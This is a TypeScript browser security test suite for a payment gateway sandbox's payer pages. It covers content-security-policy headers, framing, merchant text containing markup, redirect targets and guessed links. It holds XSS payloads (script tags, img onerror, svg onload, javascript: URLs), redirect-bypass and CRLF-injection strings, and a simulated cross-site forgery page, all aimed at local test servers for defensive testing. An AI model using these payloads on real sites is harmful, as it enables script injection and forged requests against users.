import assert from 'node:assert/strict'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { after, before, describe, test } from 'node:test'
import type { Browser, Page } from 'playwright-core'
import { SandboxClient } from '../src/client.ts'
import { addMerchant } from './api.ts'
import { launchBrowser } from './browser.ts'
import { freshOrderId, type TestGateway, testGateway } from './gateway.ts'
import { answerTo, carriers, sampleWith } from './initiate-members.ts'
import { challengeCard } from './journey.ts'

/*
 * The payer's pages under attack, in a real Chromium: another site that frames, posts and guesses, and a
 * merchant whose texts are markup. `evil` is another site (localhost, where the gateway is 127.0.0.1).
 */

let gateway: TestGateway
let browser: Browser
let evil: Server
let evilUrl: string
/** What the other site serves, by path, and what it was asked for. */
const evilPages = new Map<string, string>()
const evilRequests: string[] = []

before(async () => {
  evil = createServer((request, response) => {
    evilRequests.push(request.url ?? '')
    response.writeHead(200, { 'content-type': 'text/html' }).end(evilPages.get(request.url ?? '') ?? '')
  })
  await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve))
  evilUrl = `http://localhost:${(evil.address() as AddressInfo).port}`
  ;[gateway, browser] = await Promise.all([testGateway(), launchBrowser()])
})
after(async () => {
  await browser?.close()
  await gateway?.close()
  evil.closeAllConnections()
  evil.close()
})

async function order(changes: Parameters<TestGateway['initiate']>[0] = {}) {
  const id = changes.order?.id ?? freshOrderId()
  const { status, body } = await gateway.initiate({ ...changes, order: { ...changes.order, id } })
  assert.equal(status, 200, JSON.stringify(body))
  return { id, link: body['redirecturl'] ?? '' }
}

/** A page as it was answered. */
interface Seen {
  readonly name: string
  readonly html: string
  readonly headers: Readonly<Record<string, string>>
}

async function seen(name: string, response: Response | Promise<Response>): Promise<Seen> {
  const answered = await response
  const headers = Object.fromEntries(answered.headers)
  assert.match(headers['content-type'] ?? '', /^text\/html/, name)
  return { name, html: await answered.text(), headers }
}

const post = (url: string, fields: Record<string, string>) =>
  fetch(url, { method: 'POST', body: new URLSearchParams(fields) })

/** The value of a hidden field of a page. */
function hidden({ html }: Seen, name: string): string {
  const [, value = ''] = new RegExp(`name="${name}" value="([^"]*)"`).exec(html) ?? []
  assert.ok(value, name)
  return value
}

/**
 * Every page that a payer can meet on orders of one merchant, and those of the sandbox. `open` opens an order
 * and answers its link.
 */
async function everyPage(
  client: SandboxClient,
  open: (id: string, picks?: boolean) => Promise<string>,
  hostile: string,
): Promise<Seen[]> {
  const pages: Seen[] = []
  const get = async (name: string, url: string) => pages.push(await seen(name, fetch(url)))
  const fresh = async (picks = false) => {
    const id = freshOrderId()
    return { id, link: await open(id, picks) }
  }
  const form = await fresh()
  await get('card form', form.link)
  await get('card form in English', `${form.link}?lang=en`)
  await get(
    'with a hostile query',
    `${form.link}?lang=${encodeURIComponent(hostile)}&again=${encodeURIComponent(hostile)}`,
  )
  const typed = {
    formNo: '1',
    number: hostile,
    expiry: hostile,
    cvv: hostile,
    name: 'x'.concat(hostile),
    lang: hostile,
  }
  pages.push(await seen('mistakes', post(form.link, typed)))
  await get('picker', (await fresh(true)).link)

  const refused = await fresh()
  await client.pay(refused.id, { outcome: 'declined', attempts: 1 })
  await get('refused', refused.link)
  const processing = await fresh()
  await client.pay(processing.id, { outcome: 'timeout', attempts: 1 })
  await get('processing', processing.link)
  const paid = await fresh()
  await client.pay(paid.id)
  await get('paid', paid.link)
  await get('paid already', `${paid.link}?again=1`)
  const cancelled = await fresh()
  await client.call('GET', `/pg/payment/card/cancel/${cancelled.id}`)
  await get('cancelled', cancelled.link)
  const failed = await fresh()
  await client.pay(failed.id, { outcome: 'declined', attempts: 100 })
  await get('failed', failed.link)

  const challenged = await fresh()
  pages.push(await seen('method step', post(challenged.link, { ...challengeCard, formNo: '1' })))
  const challenge = await seen('challenge', post(`${challenged.link}/authenticate`, { methodCompleted: 'Y' }))
  pages.push(challenge)
  const creq = hidden(challenge, 'creq')
  const bank = `${gateway.url}/sandbox/acs`
  pages.push(
    await seen('method step of the bank', post(`${bank}/method`, { threeDSMethodData: hostile })),
    await seen('bank', post(`${bank}/challenge`, { creq, lang: hostile, threeDSSessionData: hostile })),
    await seen('wrong password', post(`${bank}/challenge/answer`, { creq, otp: hostile })),
    await seen('way back', post(`${bank}/challenge/answer`, { creq, otp: '112233' })),
    await seen('no such challenge', post(`${bank}/challenge`, { creq: hostile })),
  )
  const { sessionId } = await client.call<{ sessionId: string }>('POST', '/pg/payment/card/threeds/initiate', {
    customer: { id: markup },
    order: { id: freshOrderId(), amount: 1_000 },
    url: { threeDsResponseUrl: `https://shop.example/"'><script>${run}</script><img/src=x/onerror=${run}>#"'>` },
    card: { number: challengeCard.number },
    device: { browser: markup },
  })
  const { number, name, cvv } = challengeCard
  const { redirectHtml } = await client.call<{ redirectHtml: string }>('POST', '/pg/payment/card/threeds/auth/payer', {
    card: { number, cvv, nameOnCard: name, expiryDate: '3309' },
    transaction: { sessionId },
  })
  const named = { name: 'snippet', html: redirectHtml, headers: {} }
  const left = await seen('given up', post(`${bank}/challenge/answer`, { creq: hidden(named, 'creq'), cancel: '1' }))
  const back = /<form method="post" action="([^"]+)"/.exec(left.html)?.[1] ?? ''
  pages.push(await seen('way back to a page of the shop', post(back, { cres: hostile, lang: hostile })))

  const waits = await fresh()
  await client.clock.advance('PT25H')
  await get('expired', waits.link)

  const root = new URL(form.link).origin
  await get('unknown link', `${root}/pg/payment/card/access/${'0'.repeat(64)}?lang=${encodeURIComponent(hostile)}`)
  await get('home', `${root}/?lang=${encodeURIComponent(hostile)}`)
  await get('test cards', `${root}/sandbox/cards?lang=${encodeURIComponent(hostile)}`)
  return pages
}

const run = 'window.__pwned=1'
const markup = `"'></title></script></style></noscript></textarea><script>${run}</script><img src=x onerror=${run}>&lt;img src=x onerror=${run}&gt;`
/** For members that a pattern or a length narrows; the last ones go into addresses and codes. */
const candidates = [
  markup,
  `"><img src=x onerror=${run}>`,
  '<svg onload=__pwned=1>',
  '<svg/onload=__pwned=1>',
  `"><img/src=x/onerror=${run}>@x.id`,
  `https://shop.example/"'><script>${run}</script><img/src=x/onerror=${run}>?javascript:${run}#"'>`,
  `'"><b>`,
  '">',
]

/** Every page of a merchant whose every text is markup. */
async function hostilePages(): Promise<Seen[]> {
  const carried = await carriers(gateway, (path) =>
    path.at(-1) === 'callbackUrl' || path.join('.') === 'order.id' ? [] : candidates,
  )
  assert.ok(carried.length > 40, `${carried.length} members hold some`)
  for (const shown of ['order.description', 'url.successUrl', 'url.failUrl', 'url.backUrl', 'customer.firstName'])
    assert.ok(
      carried.some(({ path }) => path.join('.') === shown),
      shown,
    )
  const merchantKey = 'MarkupKey123'
  const authorization = await addMerchant(gateway, 'MARKUP', merchantKey, markup)
  const client = new SandboxClient({ url: gateway.url, merchantId: 'MARKUP', merchantKey })
  const asMarkup: TestGateway = {
    ...gateway,
    fetch: (path, init = {}) =>
      fetch(gateway.url + path, { ...init, headers: { ...(init.headers as Record<string, string>), authorization } }),
  }
  const open = async (id: string, picks = false) => {
    const changes = new Map<readonly string[], unknown>(carried.map(({ path, text }) => [path, text]))
    changes.set(['sourceOfFunds', 'type'], picks ? '' : 'cc')
    const { code, text } = await answerTo(asMarkup, sampleWith(id, changes))
    assert.equal(code, '2000000', text)
    return (JSON.parse(text) as { redirecturl: string }).redirecturl
  }
  return everyPage(client, open, markup)
}

describe('every page', () => {
  let pages: Seen[]
  before(async () => {
    pages = await hostilePages()
    assert.equal(pages.length, 23)
  })

  test('has a policy that names one script and one style by hash and lets nobody frame it', () => {
    for (const { name, headers } of pages) {
      const policy = headers['content-security-policy'] ?? ''
      const directives = new Map(policy.split('; ').map((each) => [each.split(' ')[0], each.split(' ').slice(1)]))
      assert.deepEqual(directives.get('default-src'), ["'none'"], name)
      for (const directive of ['script-src', 'style-src']) {
        assert.equal(directives.get(directive)?.length, 1, name)
        assert.match(directives.get(directive)?.[0] ?? '', /^'sha256-[\w+/]{43}='$/, name)
      }
      assert.deepEqual(directives.get('base-uri'), ["'none'"], name)
      assert.doesNotMatch(
        policy.replace('frame-ancestors *', ''),
        /unsafe|\*|http:(?!\/\/127\.0\.0\.1:)|https:|blob:/,
        name,
      )
      assert.deepEqual(directives.get('img-src'), ['data:'], name)
      // The bank's hidden step may stand in any merchant's page; nothing else is framed by anybody.
      const framed = name === 'method step of the bank'
      assert.deepEqual(directives.get('frame-ancestors'), [framed ? '*' : "'none'"], name)
      assert.equal(headers['x-frame-options'], framed ? undefined : 'DENY', name)
      assert.equal(headers['x-content-type-options'], 'nosniff', name)
      assert.equal(headers['referrer-policy'], 'same-origin', name)
      assert.equal(headers['cache-control'], 'no-store', name)
      assert.equal(headers['cross-origin-opener-policy'], 'same-origin', name)
      assert.equal(headers['cross-origin-resource-policy'], 'same-origin', name)
      assert.equal(headers['set-cookie'], undefined, `${name}: there is no session to ride on`)
      assert.equal(headers['server'] ?? headers['x-powered-by'], undefined, name)
    }
  })

  test("runs no markup of a merchant's, in whatever member it is, even without our policy", async () => {
    const showing = pages.filter(({ html }) => html.includes('__pwned'))
    assert.ok(showing.length > 12, 'most pages show something of the merchant')
    for (const { name, html } of pages) {
      assert.equal(html.match(/<script/g)?.length, 1, name)
      assert.doesNotMatch(html, /<img|<svg onload|<svg\/onload|<\/noscript><\/textarea>/, name)
      assert.doesNotMatch(html, /(?:href|action|src|data-return|content)="\s*javascript:/i, name)
    }
    const context = await browser.newContext({ bypassCSP: true })
    const page = await context.newPage()
    await quiet(page)
    const complaints: string[] = []
    page.on('console', (message) => complaints.push(message.text()))
    page.on('dialog', () => complaints.push('a dialog'))
    await page.route(`${gateway.url}/attack/*`, (route) => {
      const found = pages[Number(new URL(route.request().url()).pathname.slice(8))]
      return route.fulfill({ body: found?.html ?? '', headers: found?.headers ?? {} })
    })
    for (const [index, { name }] of pages.entries()) {
      await page.goto(`${gateway.url}/attack/${index}`)
      const found = await page.evaluate(() => ({
        pwned: Reflect.get(window, '__pwned') as unknown,
        strange: document.querySelectorAll('img, object, embed, base').length,
        handlers: Array.from(document.querySelectorAll('*')).filter((element) =>
          element.getAttributeNames().some((attribute) => /^on/.test(attribute)),
        ).length,
        schemes: Array.from(document.querySelectorAll<HTMLAnchorElement>('a[href]')).map(({ protocol }) => protocol),
      }))
      assert.deepEqual({ ...found, schemes: [] }, { pwned: undefined, strange: 0, handlers: 0, schemes: [] }, name)
      for (const scheme of found.schemes) assert.match(scheme, /^https?:$/, name)
    }
    assert.deepEqual(complaints, [])
    await context.close()
  })

  test('stays empty in a frame of another site', async () => {
    const { link } = await order()
    const paths = [link, `${link}?lang=en`, `${gateway.url}/`, `${gateway.url}/sandbox/cards`, `${link}/status`]
    evilPages.set('/frames', paths.map((url) => `<iframe src="${url}"></iframe><embed src="${url}">`).join(''))
    const page = await browser.newPage()
    await page.goto(`${evilUrl}/frames`)
    await page.waitForLoadState('networkidle')
    assert.equal(page.frames().length, 1 + 2 * paths.length)
    for (const frame of page.frames().slice(1)) {
      assert.ok(!frame.url().startsWith(gateway.url), frame.url())
      assert.equal(await frame.evaluate(() => document.querySelectorAll('form, button, .slab').length), 0)
    }
    await page.close()
  })

  test('runs nothing but its own script, even if markup of an attacker came into it', async () => {
    const context = await browser.newContext()
    const page = await context.newPage()
    await quiet(page)
    const injected = `<base href="${evilUrl}/"><script>window.__pwned = 1</script><script src="${evilUrl}/x.js"></script>
      <img src="${evilUrl}/x.png" onerror="window.__pwned = 2"><img src="/none" onerror="window.__pwned = 3">
      <svg onload="window.__pwned = 4"></svg><iframe src="${evilUrl}/frame"></iframe><object data="${evilUrl}/object"></object>
      <link rel="stylesheet" href="${evilUrl}/x.css"><style>body { background: url(${evilUrl}/style) }</style>
      <p style="background: url(${evilUrl}/attribute)">x</p><meta http-equiv="refresh" content="9;url=${evilUrl}/meta">
      <a id="link" href="javascript:window.__pwned=5">x</a><video src="${evilUrl}/v"></video>
      <form id="stolen" method="post" action="${evilUrl}/form"><button>x</button></form>`
    await page.route(`${gateway.url}/attack/*`, (route) => {
      const name = decodeURIComponent(new URL(route.request().url()).pathname.slice(8))
      const found = pages.find((each) => each.name === name)
      const body = found?.html.replace(/<main[^>]*>/, (main) => main + injected) ?? ''
      return route.fulfill({ body, headers: found?.headers ?? {} })
    })
    evilRequests.length = 0
    // One page of each policy.
    const policies = new Map(pages.map((each) => [each.headers['content-security-policy'], each]))
    assert.ok(policies.size > 2)
    for (const { name, html } of policies.values()) {
      assert.match(html, /<main/, name)
      await page.goto(`${gateway.url}/attack/${encodeURIComponent(name)}`)
      await page.evaluate(() => {
        document.getElementById('link')?.click()
        document.querySelector<HTMLButtonElement>('#stolen button')?.click()
      })
      assert.equal(await page.evaluate(() => Reflect.get(window, '__pwned')), undefined, name)
      assert.ok(page.url().startsWith(`${gateway.url}/attack/`), name)
    }
    assert.deepEqual(evilRequests, [])
    await context.close()
  })
})

/** Pages that go on by themselves hold still. */
async function quiet(page: Page): Promise<void> {
  await page.addInitScript(() => {
    if (location.pathname.startsWith('/attack/')) HTMLFormElement.prototype.requestSubmit = () => undefined
  })
}

describe('the way back to the shop', () => {
  const refusedTargets = [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'java\nscript:alert(1)',
    'data:text/html,<script>1</script>',
    'vbscript:x',
    'blob:https://shop.example/x',
    'file:///etc/passwd',
    'intent://shop#Intent;end',
    '//evil.example/',
    '///evil.example',
    '/\\evil.example',
    '\\\\evil.example',
    'http:evil.example',
    'http:/evil.example',
    'https:///evil.example',
    'https:\\\\evil.example',
    'https://shop.example\\@evil.example',
    'https://shop.example@evil.example/',
    'https://user:secret@shop.example/',
    'https://@evil.example/',
    'https://shop.example\u0000.evil.example/',
    'https://shop.example/\r\nlocation: https://evil.example',
    'https://shop.example/\tx',
    'https://shop.example /',
    'https://',
    'shop.example',
    '?x',
    '#x',
    `https://shop.example/${'x'.repeat(2_048)}`,
  ]

  test('leads nowhere but to an http address of a plain host', async () => {
    for (const member of ['successUrl', 'failUrl', 'backUrl']) {
      const answers: string[] = []
      for (const target of refusedTargets) {
        const { code } = await answerTo(gateway, sampleWith(freshOrderId(), new Map([[['url', member], target]])))
        // U+0000 is refused as no JSON that anybody stores.
        answers.push(`${target} ${code.replace('4000000', '4000001')}`)
      }
      assert.deepEqual(
        answers,
        refusedTargets.map((target) => `${target} 4000001`),
        member,
      )
    }
  })

  test('is the merchant’s own address as the browser reads it, whatever is in it', async () => {
    const targets = [
      'https://shop.example/?next=//evil.example',
      'https://shop.example/..//evil.example/%2e%2e',
      'HTTPS://SHOP.EXAMPLE:443/"><script>',
      'https://shop.example?@evil.example/',
      'https://shop.example/@evil.example',
      'https://shop.example#@evil.example/',
      'https://shop.example/\\evil.example',
    ]
    const context = await browser.newContext()
    const page = await context.newPage()
    for (const target of targets) {
      const { id, link } = await order({ url: { successUrl: target, backUrl: target, failUrl: target } })
      await page.goto(link)
      const hosts = () =>
        page.locator('main a').evaluateAll((links) => links.map((each) => (each as HTMLAnchorElement).host))
      assert.ok((await hosts()).includes('shop.example'), target)
      await gateway.client.pay(id)
      await page.goto(`${link}?returnUrl=https://evil.example&successUrl=https://evil.example`)
      assert.deepEqual([...new Set(await hosts())], ['shop.example'], target)
      const automatic = await page.locator('[data-return]').getAttribute('data-return')
      assert.equal(new URL(automatic ?? '').host, 'shop.example')
    }
    await context.close()
  })

  test('no answer of ours redirects anywhere but to our own page', async () => {
    const { link } = await order()
    const { origin, pathname } = new URL(link)
    for (const path of [
      `${pathname}/return`,
      `${pathname}/authenticate`,
      `${pathname}/cvv`,
      `${pathname}/stored`,
      pathname,
      `${pathname}/return?lang=//evil.example&url=//evil.example`,
    ]) {
      const response = await fetch(origin + path, {
        method: 'POST',
        redirect: 'manual',
        headers: { 'x-forwarded-host': 'evil.example', referer: 'https://evil.example/' },
        body: new URLSearchParams({
          lang: '//evil.example',
          cres: 'x',
          formNo: '9',
          returnUrl: 'https://evil.example',
        }),
      })
      assert.equal(response.status, 303, path)
      assert.equal(response.headers.get('location'), `${pathname}?lang=id`, path)
    }
  })
})

describe('another site', () => {
  for (const loggedIn of [true, false]) {
    test(`does nothing with forms and images, to a developer who is ${loggedIn ? '' : 'not '}logged in`, async () => {
      const { id, link } = await order()
      const clock = await gateway.client.clock.advance('PT0S')
      const fields = Object.entries({
        ...challengeCard,
        formNo: '1',
        methodCompleted: 'Y',
        otp: '112233',
        advance: 'PT25H',
      })
        .map(([name, value]) => `<input name="${name}" value="${value}">`)
        .join('')
      const targets = [
        link,
        `${link}/authenticate`,
        `${link}/return`,
        `${link}/cvv`,
        `${link}/stored`,
        `${gateway.url}/sandbox/orders/${id}/pay`,
        `${gateway.url}/sandbox/clock`,
        `${gateway.url}/sandbox/acs/challenge/answer`,
        `${gateway.url}/pg/payment/card/initiate`,
      ]
      const forms = targets.flatMap((url) =>
        ['', 'application/x-www-form-urlencoded', 'text/plain', 'multipart/form-data'].map(
          (type) =>
            `<form method="post" action="${url}" enctype="${type}" target="TARGET">${type ? fields : ''}</form>`,
        ),
      )
      const cancel = `${gateway.url}/pg/payment/card/cancel/${id}`
      evilPages.set(
        '/attack',
        `<img src="${cancel}"><script src="${cancel}"></script><iframe src="${cancel}"></iframe>
         <link rel="prefetch" href="${cancel}">
         ${forms.map((form, n) => `<iframe name="t${n}" ${n % 2 ? 'sandbox="allow-forms"' : ''}></iframe>${form.replace('TARGET', `t${n}`)}`).join('')}
         <script>
           for (const form of document.forms) form.submit()
           const json = JSON.stringify({ advance: 'PT25H' })
           for (const url of ${JSON.stringify(targets)})
             for (const mode of ['no-cors', 'cors'])
               fetch(url, { method: 'POST', mode, credentials: 'include', body: json }).then(
                 (response) => { if (response.type !== 'opaque') window.read = url }, () => undefined)
           navigator.sendBeacon('${gateway.url}/sandbox/orders/${id}/pay')
         </script>`,
      )
      const context = await browser.newContext(
        loggedIn ? { httpCredentials: { username: 'FINPAY770', password: 'SoSecret123' } } : {},
      )
      // Whoever looked at the sandbox in this browser is logged in from then on.
      const before = await context.newPage()
      const first = await before.goto(`${gateway.url}/sandbox/clock`).catch(() => null)
      assert.equal(first?.status(), loggedIn ? 200 : undefined)
      await before.close()
      const page = await context.newPage()
      const logged = gateway.logged.length
      await page.goto(`${evilUrl}/attack`)
      await page.waitForLoadState('networkidle')
      const requests = gateway.logged.slice(logged).filter((line) => line.includes('"msg":"request"'))
      assert.ok(requests.length > forms.length, `${requests.length} requests came`)
      assert.equal(await page.evaluate(() => Reflect.get(window, 'read')), undefined, 'nothing is read')
      await page.goto(cancel).catch(() => undefined)
      const types = (await gateway.client.events(id)).map(({ type }) => type)
      // A developer who opens the address by hand means it; that is no other site.
      assert.deepEqual(types, loggedIn ? ['order.initiated', 'order.cancelled'] : ['order.initiated'])
      assert.equal((await gateway.client.clock.advance('PT0S')).offsetSeconds, clock.offsetSeconds)
      await context.close()
    })
  }

  test('may lead a payer to the page by a link or a form, and the page is shown', async () => {
    const { link } = await order()
    evilPages.set('/shop', `<a href="${link}">pay</a><form method="post" action="${link}"><button>pay</button></form>`)
    const context = await browser.newContext()
    const page = await context.newPage()
    for (const way of ['a', 'button']) {
      await page.goto(`${evilUrl}/shop`)
      await page.click(way)
      await page.waitForURL(`${link}*`)
      assert.equal(await page.locator('[name=number]').count(), 1, way)
    }
    await context.close()
  })
})

describe("a guess at somebody's link", () => {
  test('by a bit of route, number or secret is answered like any other, in the same time', async () => {
    const { link } = await order()
    const { origin, pathname } = new URL(link)
    const base = pathname.slice(0, -64)
    const token = pathname.slice(-64)
    const ask = async (guess: string) => {
      const startedAt = performance.now()
      const response = await fetch(`${origin}${base}${guess}`)
      const text = await response.text()
      const headers = [...response.headers].filter(([name]) => name !== 'date')
      return { answer: { status: response.status, headers, text }, ms: performance.now() - startedAt }
    }
    const { answer: unknown } = await ask('0'.repeat(64))
    assert.equal(unknown.status, 404)
    const times = new Map<string, number[]>([
      ['route', []],
      ['number', []],
      ['secret', []],
    ])
    for (let n = 0; n < 256; n += 1) {
      // The three parts take turns, so that a busy moment of the machine is no difference between them.
      const bit = (n * 97) % 256
      const bytes = Buffer.from(token, 'hex')
      bytes[bit >> 3] = (bytes[bit >> 3] ?? 0) ^ (1 << (bit & 7))
      const { answer, ms } = await ask(bytes.toString('hex'))
      assert.deepEqual(answer, unknown, `bit ${bit}`)
      times.get(bit < 32 ? 'route' : bit < 128 ? 'number' : 'secret')?.push(ms)
    }
    const median = (values: number[]) => values.toSorted((a, b) => a - b)[values.length >> 1] ?? 0
    const medians = [...times.values()].map(median)
    assert.ok(Math.max(...medians) - Math.min(...medians) < 5, `medians ${medians.join(', ')} ms`)
    for (const other of [
      token.toUpperCase(),
      token.slice(1),
      `${token}0`,
      `${token.slice(0, 63)}g`,
      `%00${token.slice(3)}`,
    ]) {
      if (other === token) continue
      assert.equal((await ask(other)).answer.status, 404, other)
    }
    assert.equal((await ask(token)).answer.status, 200)
  })
})
